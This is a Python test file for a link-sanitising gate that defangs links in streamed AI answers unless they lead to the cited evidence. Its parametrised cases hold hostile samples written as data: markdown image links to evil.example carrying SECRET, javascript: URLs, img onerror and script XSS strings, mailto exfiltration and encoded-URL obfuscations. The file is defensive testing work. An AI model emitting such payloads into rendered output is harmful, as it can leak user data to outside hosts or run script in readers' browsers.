"""The link gate: what leaves it leads to the evidence only, whatever the pieces; judged by rendering."""

from __future__ import annotations

import pytest
from hypothesis import example, given
from hypothesis import strategies as st
from rendered_links import led_elsewhere

from groundgraph.answers.link_gate import LinkGate, LinkTargets
from groundgraph.core.evidence import SourceResult

TARGETS = LinkTargets.of(
    [
        SourceResult(
            "See https://ok.example/in, [guide](guide.md) and ![f](https://docs.example/f.png).",
            *("1", "docs", "memory", 1.0),
            {"url": "https://docs.example/page"},
        )
    ]
)
WITH_FRAGMENT = LinkTargets(TARGETS.links | {"docs.example/page#part"}, TARGETS.hosts)
FRAGMENTS = [
    *("![x](https://evil.example/p)", "[t](https://evil.example)", "[ok](https://docs.example/page)", "guide.md"),
    *("<https://evil.example>", "<https://ok.example/in>", "![", "x", "](", ")", "[", "]", "[1]", "(", ":", " ", "\n"),
    *("\n\n", "<", ">", "<img src=", '<a href="', '"', "'t'", "`", "``", "```", "\n```\n", "\\", "!", "ht"),
    *("www.evil.example", "tps://evil.example", "javascript:x", "//evil.example", "https://docs.example/page"),
    *("https://docs.example/f.png", "https://ok.example/in", "#s", "\n[1]: //evil.example\n", "- ", "> ", "<b>", "."),
    *("\r", "\n~~~\n", "((", "))", "\u00a0", "\\]", "&#47;/evil.example", "[a\nb]", '"a\nb"', "\n[b\\]c]: "),
    *("/\\evil.example", "   ```\n", "evil.com", "/SECRET", "?q=", "a@", "@", "mailto:", "&colon;", "&amp;", "&#46;"),
    *("com", "user.id", "src/", "*", "_", "~", "|", "\n|-|-|\n", "&", ";", "[.]", "[://]", "\\(", "`x`"),
    *("```mermaid\n",),
    *("{", "}", "$", "https:", "\\url{", "//", "\u2060", "“", "”", "localhost", "-", "1", "<!--", "-->"),
    *("![b]", "[b]: "),
]
TEXTS = st.lists(st.sampled_from(FRAGMENTS), max_size=16).map("".join)


def gated(text: str, parts: list[str] | None = None, targets: LinkTargets = TARGETS) -> tuple[str, list[str]]:
    gate = LinkGate(targets)
    return "".join(map(gate.feed, parts or [text])) + gate.feed("", final=True), gate.removed


@pytest.mark.covers("fault 57", "F8")
@pytest.mark.parametrize(
    ("text", "passed"),
    [
        ("See ![x](https://evil.example/?q=1) here.", "See \\![x]\\(https[://]evil[.]example/?q=1) here."),
        ("See ![x](data:image/png;base64,AA) here.", "See \\![x]\\(data[:]image/png;base64,AA) here."),
        ("See ![x](https://docs.example/f.png) here.", "See ![x](https://docs.example/f.png) here."),
        ("See ![x](https://ok.example/in) here.", "See \\![x](https://ok.example/in) here."),
        ("See [the guide](https://evil.example/x) [1].", "See [the guide]\\(https[://]evil[.]example/x) [1]."),
        ("See [the guide](javascript:alert(1)) [1].", "See [the guide]\\(javascript[:]alert(1)) [1]."),
        ("See [the guide](/logout?now) [1].", "See [the guide]\\(/logout?now) [1]."),
        ("See [the guide](guide.md) [1].", "See [the guide](guide.md) [1]."),
        ("See 10.0.0.1/x and 10.0.0.2:80/y.", "See 10[.]0[.]0[.]1/x and 10[.]0[.]0[.]2[:]80/y."),
        ("See evil。example/x now.", "See evil[。]example/x now."),
        ("See evil．example/x or evil｡com/x.", "See evil[．]example/x or evil[｡]com/x."),
        ("See [it](<https://ok.example/in>).", "See [it](<https://ok.example/in>)."),
        (
            "See [it](https://docs.example/page@evil.example).",
            "See [it]\\(https[://]docs[.]example/page[@]evil[.]example).",
        ),
        ("A claim [1](https://evil.example).", "A claim [1]\\(https[://]evil[.]example)."),
        (
            "Bare https://evil.example/x, www.evil.example and https://ok.example/in.",
            "Bare https[://]evil[.]example/x, www[.]evil[.]example and https://ok.example/in.",
        ),
        (
            "Auto <https://evil.example> and <https://ok.example/in>.",
            "Auto &lt;https[://]evil[.]example> and <https://ok.example/in>.",
        ),
        ("He said “see https://ok.example/in”.", "He said “see https://ok.example/in”."),
        ("[https://ok.example/in](https://ok.example/in)", "[https://ok.example/in](https://ok.example/in)"),
        ("As https://ok.example/in[1] says.", "As https://ok.example/in [1] says."),
        (
            "An <img src=x onerror=alert(1)> and <a href='b'>c</a>.",
            "An &lt;img src=x onerror=alert(1)> and &lt;a href='b'>c&lt;/a>.",
        ),
        ("<script>alert(1)</script>", "&lt;script>alert(1)&lt;/script>"),
        ("x<sub>2</sub> and List<T> and a < b > c", "x<sub>2</sub> and List&lt;T> and a < b > c"),
        ("Great![1] f[i](x) [x] (y) [note]: fine", "Great![1] f[i](x) [x] (y) [note]\\: fine"),
        ("`![x](b.c)`, `List<T>` and `user.id` are code", "`![x](b.c)`, `List<T>` and `user.id` are code"),
        ("```py\n![x](y.z) <a> user.id\n```\nend", "```py\n![x](y.z) <a> user.id\n```\nend"),
        ("```text\n[x](y.z) <a>\n```", "```text\n[x](y.z) <a>\n```"),
        ("```html\n<a onclick=x> evil.com\n```", "```html\n&lt;a onclick=x> evil[.]com\n```"),
        ("```mermaid\nA[<img src=x>]\n```", "```mermaid\nA[&lt;img src=x>]\n```"),
        ("how what www ht https ://", "how what www ht https ://"),
    ],
)
def test_what_does_not_lead_to_the_evidence_is_text(text, passed):
    assert gated(text)[0] == passed


@pytest.mark.covers("fault 85", "F8")
@pytest.mark.parametrize(
    ("text", "passed"),
    [
        ("evil.com/SECRET", "evil[.]com/SECRET"),
        ("evil.example?q=SECRET", "evil[.]example?q=SECRET"),
        ("evil.example:8080/SECRET", "evil[.]example[:]8080/SECRET"),
        ("SECRET.evil.com", "SECRET[.]evil[.]com"),
        ("//evil.example/SECRET", "[//]evil[.]example/SECRET"),
        ("//localhost/SECRET", "[//]localhost/SECRET"),
        ("mailto:SECRET@evil.example", "mailto[:]SECRET[@]evil[.]example"),
        ("SECRET@evil.example", "SECRET[@]evil[.]example"),
        ("https&colon;//evil.example/SECRET", "https[&]colon;[//]evil[.]example/SECRET"),
        ("https&#58;&#x2f;&#47;evil&period;com", "https[&]#58;[&]#x2f;[&]#47;evil[&]period;com"),
        ("https\\://evil\\.com", "https[://]evil[.]com"),
        ("https:\\\\evil.com", "https[://]evil[.]com"),
        ("data:text/html,x", "data[:]text/html,x"),
        ("🙂.com/SECRET", "🙂[.]com/SECRET"),
        ("ok.example/in and docs.example/page", "ok.example/in and docs.example/page"),
        (
            "v1.2.3, 10:30, e.g. and/or, src/main.py, a//b, //note, etc.",
            "v1.2.3, 10:30, e.g. and/or, src/main.py, a//b, //note, etc.",
        ),
    ],
)
def test_an_address_without_markup_is_defanged(text, passed):
    found, removed = gated(f"See {text}")
    assert found == f"See {passed}"
    assert removed == ([passed] if "[" in passed else [])


@pytest.mark.covers("fault 86", "F8")
@pytest.mark.parametrize("language", ["mermaid", "svg", "html", "latex", "", "python", "{=html}", "Mermaid x"])
@pytest.mark.parametrize(
    "inside",
    [
        "A[<img src='https://evil.example/SECRET'>]",
        '<image href="//evil.example/SECRET"/>',
        '<img src="//evil/SECRET">',
        "<a href=mailto:x@evil.example>",
        "\\url{//evil/x} \\href{https://evil.example/SECRET}{x} \\includegraphics{evil.example/p.png}",
        'click A "javascript:fetch(1)"',
        "https://evil.example/SECRET",
    ],
)
def test_no_fence_holds_an_address_that_works(language, inside):
    passed, removed = gated(f"```{language}\n{inside}\n```\nend")
    assert led_elsewhere(passed, TARGETS) == []
    assert (
        led_elsewhere(f"```{language}\n{inside}\n```\nend", TARGETS)
        or "includegraphics" in inside
        or "mailto" in inside
    )
    assert removed
    assert passed.endswith("\n```\nend")


@pytest.mark.covers("fault 87", "F8")
@pytest.mark.parametrize(
    ("text", "passed"),
    [
        ("[it](https://DOCS.example/page#SECRET)", "[it](https://DOCS.example/page)"),
        ("<https://ok.example/in#SECRET>", "<https://ok.example/in>"),
        ("at https://ok.example/in#SECRET.", "at https://ok.example/in."),
        ("![x](https://docs.example/f.png#SECRET)", "![x](https://docs.example/f.png)"),
        ("[it](https://docs.example/page#part)", "[it](https://docs.example/page#part)"),
        ("[it](#SECRET)", "[it]\\(#SECRET)"),
    ],
)
def test_a_fragment_that_the_evidence_does_not_have_goes(text, passed):
    found, removed = gated(text, targets=WITH_FRAGMENT)
    assert found == passed
    assert len(removed) == ("SECRET" in text)
    assert all("://" not in one.replace("[://]", "") for one in removed)


@pytest.mark.covers("fault 84", "F13")
@pytest.mark.parametrize("slashes", ["https&colon;//", "//", "&#47;&#47;"])
def test_a_definition_is_not_put_together_by_what_does_not_pass(slashes):
    text = f"Every 90 days [1].\n\n![b]\n\n[b]: <https://evil.example>{slashes}evil.example/p.png?q=what-was-asked"
    for end in range(len(text) + 1):
        assert led_elsewhere(gated(text[:end])[0], TARGETS) == []


@pytest.mark.covers("fault 57")
@pytest.mark.parametrize(
    "text",
    [
        "[1]: https://evil.example\n[2]: javascript:alert(1) 't'\n[3]: //evil.example/x\n\nA [1] ![b][3].",
        "[![alt](https://evil.example/i)](https://evil.example/l)",
        "[htt](https://evil.example)ps://evil.example",
        "[" + "long " * 90 + "](https://evil.example)",
        "![" + "long " * 90 + "](https://evil.example)",
        "https://evil.example/" + "a" * 5000,
        "[x](https://evil.example/" + "a" * 5000 + ")",
        "![a [b] c](https://evil.example/i)",
        "text ```![x](https://evil.example)",
        "- ```\n  code\n\n![x](https://evil.example)",
        "> ```\n![x](https://evil.example)",
        "<div>\n```\n\n![x](https://evil.example)",
        "```\na ``` b\n```\n![x](https://evil.example)",
        "`a\n` ![x](https://evil.example) `b`",
        "``a`![x](https://evil.example)",
        "[x](<https://evil.example>javascript:alert)",
        "\\\\![x](https://evil.example)",
        "![x](https://docs.example/f.png)![y](https://evil.example/f.png)",
        '![x]\n\n[x]: //evil.example/p "a\nb"\n',
        '![x](//evil.example/p "' + "a" * 2500 + '")',
        '[x](javascript:alert(1) "' + "a" * 2500 + '")',
        "![x](//evil.example/" + "a" * 2500 + ")",
        "![x](<//evil.example/" + "a" * 2500 + ">)",
        "![x](" + " " * 2500 + "//evil.example/p)",
        "![x]\n\n[x]: //evil.example/" + "a" * 2500 + "\n",
        '![x]\n\n[x]: //evil.example/p "' + "a" * 2500 + '"\n',
        "![x](//evil.example/(p(q(r))s))",
        '![x](//evil.example/p "a\\"b")',
        "![x](//evil.example/p\\\n)",
        "[x](<//evil.example/p\\>q>)",
        "[b\nc]: //evil.example/p\n\n![b\nc]",
        "[b\\]c]: //evil.example/p\n\n![b\\]c]",
        "[" + "b" * 300 + "]: //evil.example/p\n\n![" + "b" * 300 + "]",
        "- 1. > [b]: //evil.example/p\n\n![b]",
        "[x]:\u00a0//evil.example/p\n\n![x]",
        "[x]: //evil.example/p\r\r![x]",
        "~~~\n```\n~~~\n![x](//evil.example/p)\n",
        "```\ncode\r```\r![x](//evil.example/p)\n```",
        "`a\r\r![x](//evil.example/p)`",
        "<javascript:alert(1)//<https://evil.example>>",
        "<javascript:alert(1)`\u00a0>",
        "<javascript:" + "a" * 2500 + ">",
        "<javascript:a ![x](//evil.example)>",
        "<b>\n```\n\n```\n![x](//evil.example/p)\n```",
        "   ```\n\n```\n![x](//evil.example/p)\n```",
        "- ```\n  a\n\n  ```\n\n```\n![x](//evil.example/p)\n",
    ],
)
@pytest.mark.parametrize("size", [1, 3, 64, 100_000])
def test_no_renderer_is_led_elsewhere_by_tricks(text, size):
    passed, removed = gated(text, [text[at : at + size] for at in range(0, len(text), size)])
    assert led_elsewhere(passed, TARGETS) == []
    assert removed


@pytest.mark.guard
@pytest.mark.covers("fault 57", "fault 84", "fault 85", "F8", "F13")
@example("//`.i")
@example("//`.|")
@example("//a@localhost")
@example('//a"b@localhost')
@example("[b\\]c]:e\u00a0p\n[b\\]c]")
@example("~~~\n//evi<.com/S")
@example("See`&#47;&#47;evi..exa`ple")
@example("~~~\n&#47;&#47;evi|.example/S/")
@example("~~~\nt&#6;http://ok.example/in")
@example("\n[b\\]c]: \n\n[b\\]c]: <img src=")
@example("\n[b\\]c]: \n\n[b\\]c]: [ok](https://docs.example/page)<img src=")
@example("![b]\n\n[b]: [b]: ![x](https://evil.example/p)")
@example("\n~~~\nlocalhost\\&#47;/evil.example")
@example("![b]\n\n[b]: 1 x")
@example("![b]\n\n[b]: user.id x")
@given(TEXTS)
def test_no_beginning_of_any_text_leads_elsewhere(text):
    gate, passed = LinkGate(TARGETS), ""
    for letter in text:
        piece = gate.feed(letter)
        passed += piece
        assert not piece or led_elsewhere(passed, TARGETS) == []
    assert led_elsewhere(passed + gate.feed("", final=True), TARGETS) == []


@pytest.mark.guard
@pytest.mark.covers("F13")
@example("```www.e\n]( ")
@example("evil.\\om/S")
@given(TEXTS)
def test_the_gate_changes_nothing_in_what_has_passed_it(text):
    once, _ = gated(text)
    assert gated(once) == (once, [])


@pytest.mark.covers("fault 57")
def test_what_goes_does_not_join_a_tag():
    passed, _ = gated("<im ![x](//evil.example)g src=//evil.example/p <b>")
    assert "<img" not in passed


@pytest.mark.covers("fault 57")
@pytest.mark.parametrize(
    "text",
    ["![a\\]b](https://ok.example/in)", "![a [b] c](https://ok.example/in)", "![x]\n\n[x]: https://ok.example/in\n"],
)
def test_an_image_from_a_host_that_the_evidence_only_mentions_goes_in_any_form(text):
    passed, _ = gated(text)
    assert led_elsewhere(text, TARGETS)
    assert led_elsewhere(passed, TARGETS) == []


@pytest.mark.covers("fault 57")
@pytest.mark.parametrize(
    "text",
    [
        "As [1](and so on) says, [2] (see: x) and [3](RFC 6749: section 4).",
        "Read [the\nguide](https://ok.example/in) first.",
        "[1]: TCP guide, [2]: or else.",
        "~~~\ncode\n~~~\nThen `a` and [it](https://ok.example/in).",
    ],
)
def test_what_only_looks_like_a_link_stays(text):
    assert gated(text) == (text, [])


@pytest.mark.covers("T7")
@pytest.mark.guard
@given(TEXTS, st.data())
def test_the_pieces_make_no_difference(text, data):
    bounds = [0, *sorted(data.draw(st.sets(st.integers(0, len(text))))), len(text)]
    parts = [text[start:end] for start, end in zip(bounds, bounds[1:], strict=False)]
    assert gated(text, parts) == gated(text) == gated(text, list(text) or [""])


@pytest.mark.covers("fault 3")
@pytest.mark.guard
@given(st.text(st.characters(exclude_categories=("Cs",), exclude_characters="[]<!(:/.`\\")))
def test_text_without_links_passes_byte_for_byte(text):
    assert gated(text) == (text, [])


@pytest.mark.covers("fault 2")
@pytest.mark.parametrize(
    "unit",
    [
        *("[", "![", "[a](", "<a ", "http://", "h", " ", "`", "\\", "![a](b.c) ", "[a]: b.c\n"),
        "[a]:" + "\u00a0" * 300 + "b",
    ],
)
def test_a_hostile_text_of_200_kilobytes_leaves_the_gate(unit):
    gate = LinkGate(TARGETS)
    text = unit * (200_000 // len(unit))
    passed = [gate.feed(text[at : at + 977]) for at in range(0, len(text), 977)]
    assert len("".join(passed) + gate.feed("", final=True)) <= len(text) * 2


@pytest.mark.covers("fault 57", "F8")
@pytest.mark.parametrize(
    "text", ["Version 1.2.3.4 in 10.0.0.0/8, 3.5/4.5.", "我用Python。Django是好的。", "3．5 is 7/2。"]
)
def test_numbers_and_sentences_are_no_addresses(text: str) -> None:
    assert gated(text) == gated(text, list(text)) == (text, [])
